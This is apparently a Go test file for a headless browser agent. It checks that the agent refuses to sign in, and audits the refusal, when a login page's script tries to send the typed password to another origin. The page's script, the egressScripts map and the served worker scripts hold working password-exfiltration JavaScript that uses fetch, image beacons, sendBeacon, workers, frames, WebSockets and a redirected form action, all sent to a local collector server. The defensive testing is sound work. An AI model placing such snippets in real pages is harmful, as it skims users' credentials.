//go:build linux

package tests

// Issue 43: the password's way out, guarded at the network. A sign-in page whose script tries
// to send the typed password out — by fetch, an image, a beacon, a worker, a frame of another
// origin, a WebSocket opened before or after the typing, the form itself pointed elsewhere at
// the last moment, a GET form, a URL of the credential's own origin — must not get it past the
// browser: every such request is refused before it leaves (auth login answers SECRET_EGRESS,
// the page is discarded, the refusal audited), and the agent's server, which logs every
// request and WebSocket message it gets, sees no form of the password. A script that posts the
// sign-in to the credential's origin still signs in.

import (
	"fmt"
	"html"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"golang.org/x/net/websocket"

	"github.com/headless-dev/headless/internal/broker/presence/presencetest"
)

// egressSite is a sign-in site whose page's script tries a way out (GET /login?how=…), and
// the agent's server of another origin, which records everything it receives.
type egressSite struct {
	siteBook
	site, agent *httptest.Server
	got         []string // the agent's log: request lines, bodies, WebSocket messages
}

func (s *egressSite) log(line string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got = append(s.got, line)
}

// AgentLog is what the agent's server received.
func (s *egressSite) AgentLog() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.got, "\n")
}

// egressScripts are the ways out a page tries, each started when the password field gets its
// value (the input event of the host's typing), or at the submit.
var egressScripts = map[string]string{
	"fetch":          `fetch(AGENT + "/c", {method: "POST", body: pw.value, mode: "no-cors"});`,
	"image":          `new Image().src = AGENT + "/i?d=" + encodeURIComponent(pw.value);`,
	"beacon":         `navigator.sendBeacon(AGENT + "/b", JSON.stringify({p: pw.value}));`,
	"worker":         `var w = new Worker("/w.js"); w.postMessage(pw.value);`,
	"frame":          `document.getElementById("fr").contentWindow.postMessage(pw.value, "*");`,
	"ws-before":      `early.send(pw.value);`,
	"ws-after":       `var ws = new WebSocket(AGENT.replace("http", "ws") + "/ws"); ws.onopen = function () { ws.send(pw.value); };`,
	"url-same":       `fetch("/api/check?p=" + encodeURIComponent(pw.value));`,
	"form-elsewhere": ``, // at the submit: below
	"get-form":       ``, // the form has no method and nothing posts it
	"legit":          ``, // the sign-in posted by script to the credential's origin
	"bare":           ``, // no way out tried; the account field says nothing of itself (below)
	// WebSockets from the targets of their own that a page reaches: a worker, a frame of
	// another site (localhost, not 127.0.0.1), a shared worker, the site's service worker.
	"ws-worker": `wsw.postMessage(pw.value);`,
	"ws-frame":  `document.getElementById("xs").contentWindow.postMessage(pw.value, "*");`,
	"ws-shared": `shw.port.postMessage(pw.value);`,
	"ws-sw":     `navigator.serviceWorker.ready.then(function (r) { r.active.postMessage(pw.value); });`,
}

func newEgressSite(t testing.TB) *egressSite {
	s := &egressSite{siteBook: newSiteBook(http.Cookie{Name: "eg_sid"})}
	agent := http.NewServeMux()
	agent.Handle("GET /ws", websocket.Handler(func(c *websocket.Conn) {
		s.log("ws open")
		for {
			var m string
			if websocket.Message.Receive(c, &m) != nil {
				return
			}
			s.log("ws message " + m)
		}
	}))
	agent.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		s.log(r.Method + " " + r.URL.String() + " " + string(b))
		if r.URL.Path == "/wsframe" {
			htmlPage(w, "Frame", "", `<script>onmessage = function (e) { var d = e.data; var ws = new WebSocket(location.origin.replace("http", "ws") + "/ws"); ws.onopen = function () { ws.send(d); }; };</script>`)
			return
		}
		if r.URL.Path == "/frame" {
			htmlPage(w, "Frame", "", `<script>onmessage = function (e) { fetch("/f", {method: "POST", body: e.data}); };</script>`)
			return
		}
		w.WriteHeader(http.StatusNoContent)
	})
	s.agent = httptest.NewServer(agent)
	t.Cleanup(s.agent.Close)

	site := http.NewServeMux()
	wsJS := func(w http.ResponseWriter, on string) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `%s = function (e) { var d = e.data; var ws = new WebSocket(%q); ws.onopen = function () { ws.send(d); }; };`,
			on, strings.Replace(s.agent.URL, "http", "ws", 1)+"/ws")
	}
	site.HandleFunc("GET /ws-worker.js", func(w http.ResponseWriter, r *http.Request) { wsJS(w, "onmessage") })
	site.HandleFunc("GET /ws-shared.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `onconnect = function (c) { c.ports[0].onmessage = function (e) { var d = e.data; var ws = new WebSocket(%q); ws.onopen = function () { ws.send(d); }; }; };`,
			strings.Replace(s.agent.URL, "http", "ws", 1)+"/ws")
	})
	site.HandleFunc("GET /ws-sw.js", func(w http.ResponseWriter, r *http.Request) {
		wsJS(w, "self.onmessage")
	})
	site.HandleFunc("GET /w.js", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/javascript")
		fmt.Fprintf(w, `onmessage = function (e) { fetch(%q + "/wk", {method: "POST", body: e.data}); };`, s.agent.URL)
	})
	site.HandleFunc("GET /login", func(w http.ResponseWriter, r *http.Request) {
		how := r.URL.Query().Get("how")
		method := `method="post"`
		if how == "get-form" {
			method = ""
		}
		// The page's own submit waits a moment, so that the way out it tried on the typing has
		// its time: the test is about what leaves, not about a race with the navigation.
		onSubmit := `f.addEventListener("submit", function (ev) {
  if (f.dataset.go) { return; }
  ev.preventDefault();
  setTimeout(function () { f.dataset.go = "1"; f.requestSubmit(); }, 1500);
});`
		switch how {
		case "form-elsewhere":
			onSubmit = `f.addEventListener("submit", function () { f.action = AGENT + "/collect"; });`
		case "legit":
			onSubmit = `f.addEventListener("submit", function (ev) {
  ev.preventDefault();
  fetch("/api/login", {method: "POST", headers: {"Content-Type": "application/json"},
    body: JSON.stringify({username: f.username.value, password: pw.value})})
  .then(function (r) { return r.json(); }).then(function (j) { if (j.ok) { location.href = "/home"; } });
});`
		}
		account := `<label for="u">Email</label> <input type="email" id="u" name="username" autocomplete="username">`
		if how == "bare" {
			// Only autocomplete=current-password on the password field says this is a sign-in
			// form: the host's own autocomplete=off mark must not undo it after typing.
			account = `<input type="text" id="u" name="qid">`
		}
		htmlPage(w, "Sign in", "", `<h1>Sign in to Example</h1>
<form id="f" `+method+` action="/login">
 `+account+`
 <label for="p">Password</label> <input type="password" id="p" name="password" autocomplete="current-password">
 <button type="submit">Sign in</button>
</form>
<iframe id="fr" src="`+s.agent.URL+`/frame" title="help" width="200" height="40"></iframe>
<iframe id="xs" src="`+strings.Replace(s.agent.URL, "127.0.0.1", "localhost", 1)+`/wsframe" title="chat" width="200" height="40"></iframe>
<script>
var AGENT = `+fmt.Sprintf("%q", s.agent.URL)+`, f = document.getElementById("f"), pw = document.getElementById("p"), sent = false;
var early = new WebSocket(AGENT.replace("http", "ws") + "/ws");
var wsw = new Worker("/ws-worker.js"), shw = new SharedWorker("/ws-shared.js");
navigator.serviceWorker.register("/ws-sw.js");
pw.addEventListener("input", function () {
  if (sent || pw.value.length < 8) { return; }
  sent = true;
  `+egressScripts[how]+`
});
`+onSubmit+`
</script>`)
	})
	site.HandleFunc("POST /login", func(w http.ResponseWriter, r *http.Request) {
		r.ParseForm()
		u, p := r.PostForm.Get("username"), r.PostForm.Get("password")
		if u == "" {
			u = r.PostForm.Get("qid")
		}
		s.record(loginPost{"site", "/login", u, p})
		s.answer(w, r, u, p)
	})
	site.HandleFunc("GET /api/check", func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(http.StatusNoContent) })
	site.HandleFunc("POST /api/login", s.apiLogin("site"))
	site.HandleFunc("GET /home", func(w http.ResponseWriter, r *http.Request) {
		if a := s.account(r); a != "" {
			htmlPage(w, "Home", "", `<h1>Welcome `+html.EscapeString(a)+`</h1>`)
			return
		}
		htmlPage(w, "Home", "", `<h1>Not signed in</h1>`)
	})
	s.site = httptest.NewServer(site)
	t.Cleanup(s.site.Close)
	return s
}

func TestEgressGuard(t *testing.T) {
	parallel(t)
	e := newEnv(t, envOptions{})
	site := newEgressSite(t)
	const account = "alice@example.test"
	pw := newCanary()
	site.SetAccount(account, pw)
	approve, _ := presencetest.FakePinentry(t, "approve")
	lsPresence(e, approve, 5)
	lsEnroll(t, e, site.site.URL, "main", account, pw)
	e.start(t)
	needles := lsNeedles("password", pw)
	sees := func(t *testing.T, where, text string) {
		t.Helper()
		for _, n := range needles {
			if strings.Contains(text, string(n.b)) {
				t.Errorf("LEAK: %s in %s", n.name, where)
			}
		}
	}
	egressAudits := func() int {
		b, _ := os.ReadFile(filepath.Join(e.root, "data", "headless", "audit.jsonl"))
		return strings.Count(string(b), `"op":"egress"`)
	}
	var mu sync.Mutex // the subtests share the default session: one at a time
	for _, c := range []struct {
		how     string
		refused bool // SECRET_EGRESS; else the page's way out is shut without a word
		status  string
	}{
		{"fetch", true, ""}, {"image", true, ""}, {"beacon", true, ""}, {"worker", true, ""}, {"frame", true, ""},
		{"url-same", true, ""}, {"form-elsewhere", true, ""}, {"get-form", true, ""},
		{"ws-before", false, "authenticated"}, {"ws-after", false, "authenticated"},
		{"legit", false, "authenticated"}, {"bare", false, "authenticated"},
		{"ws-worker", false, "authenticated"}, {"ws-frame", false, "authenticated"}, {"ws-shared", false, "authenticated"}, {"ws-sw", false, "authenticated"},
	} {
		t.Run(c.how, func(t *testing.T) {
			mu.Lock()
			defer mu.Unlock()
			e.run("", "headless", "visit", site.site.URL+"/logout", "--json")
			audits := egressAudits()
			r := e.run("", "headless", "visit", site.site.URL+"/login?how="+c.how, "--json")
			sees(t, "visit", r.stdout+r.stderr)
			if r.code != 0 {
				t.Fatalf("visit: %+v", r)
			}
			r = e.run("", "headless", "auth", "login", "--alias", "main", "--json")
			sees(t, "auth login", r.stdout+r.stderr)
			switch {
			case c.refused && (r.code == 0 || errCode(t, r) != "SECRET_EGRESS"):
				t.Errorf("auth login on a page whose script sends the password out (%s): %+v, want SECRET_EGRESS", c.how, r)
			case c.refused && egressAudits() != audits+1:
				t.Errorf("%d egress records, want %d", egressAudits(), audits+1)
			case !c.refused && (r.code != 0 || !strings.Contains(r.stdout, `"status":"`+c.status+`"`)):
				t.Errorf("auth login (%s): %+v, want status %s", c.how, r, c.status)
			}
			if c.refused {
				// The page was discarded: the session shows a blank page.
				r := e.run("", "headless", "snapshot", "--json")
				if r.code == 0 && !strings.Contains(r.stdout, `"url":"about:blank"`) {
					t.Errorf("after a refused way out the page is still there: %s", r.stdout)
				}
			}
			sees(t, "the agent's server", site.AgentLog())
		})
	}
}

// TestAlsoOrigin (issue 43, point 5): a sign-in page whose form posts to a sibling origin of
// the site (signin.example → www.example). Without the person naming that origin it is
// FORM_ACTION_CROSS_ORIGIN before anyone is asked; with --also-origin at enrolment the prompt
// names it, the password goes there in the form's body, and the sign-in lands there,
// authenticated. A script sending it to a third origin is still refused.
func TestAlsoOrigin(t *testing.T) {
	parallel(t)
	e := newEnv(t, envOptions{})
	book := newSiteBook(http.Cookie{Name: "ao_sid"})
	www := http.NewServeMux()
	www.HandleFunc("POST /login", book.formLogin("www", "/login", "username", "password"))
	www.HandleFunc("GET /home", book.home)
	wwwSrv := httptest.NewServer(www)
	t.Cleanup(wwwSrv.Close)
	signin := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, "Sign in", "", `<h1>Sign in</h1>
<form method="post" action="`+wwwSrv.URL+`/login">
 <label>Email <input type="email" name="username" autocomplete="username"></label>
 <label>Password <input type="password" name="password" autocomplete="current-password"></label>
 <button>Sign in</button></form>`)
	}))
	t.Cleanup(signin.Close)
	const account = "ann@example.test"
	pw := newCanary()
	book.SetAccount(account, pw)
	approve, approveLog := presencetest.FakePinentry(t, "approve")
	lsPresence(e, approve, 5)
	lsEnroll(t, e, signin.URL, "plain", account, pw)
	r := e.runTTY([]step{{"Password for", pw + "\n"}, {"Repeat the password", pw + "\n"}},
		"headless", "credentials", "add", "--origin", signin.URL, "--account", account, "--alias", "sibling", "--also-origin", wwwSrv.URL, "--json")
	if r.code != 0 || !strings.Contains(r.stdout, `"also_origins":["`+wwwSrv.URL+`"]`) {
		t.Fatalf("credentials add --also-origin: %+v", r)
	}
	e.start(t)
	e.run("", "headless", "visit", signin.URL+"/login", "--json")
	n := len(presencetest.Prompts(t, approveLog))
	if r := e.run("", "headless", "auth", "login", "--alias", "plain", "--json"); r.code == 0 || errCode(t, r) != "FORM_ACTION_CROSS_ORIGIN" {
		t.Fatalf("a form posting to an origin nobody named: %+v, want FORM_ACTION_CROSS_ORIGIN", r)
	}
	if len(presencetest.Prompts(t, approveLog)) != n {
		t.Fatal("the person was asked for a form posting elsewhere")
	}
	e.run("", "headless", "visit", signin.URL+"/login", "--json")
	r = e.run("", "headless", "auth", "login", "--alias", "sibling", "--json")
	if r.code != 0 || !strings.Contains(r.stdout, `"status":"authenticated"`) {
		t.Fatalf("a form posting to the origin the person named: %+v", r)
	}
	prompts := presencetest.Prompts(t, approveLog)
	if last := prompts[len(prompts)-1]; !strings.Contains(last, wwwSrv.URL) {
		t.Fatalf("the prompt does not name the other origin: %s", last)
	}
	if posts := book.Posts(); len(posts) != 1 || posts[0].Server != "www" || posts[0].Password != pw {
		t.Fatalf("posts %v", posts)
	}
}
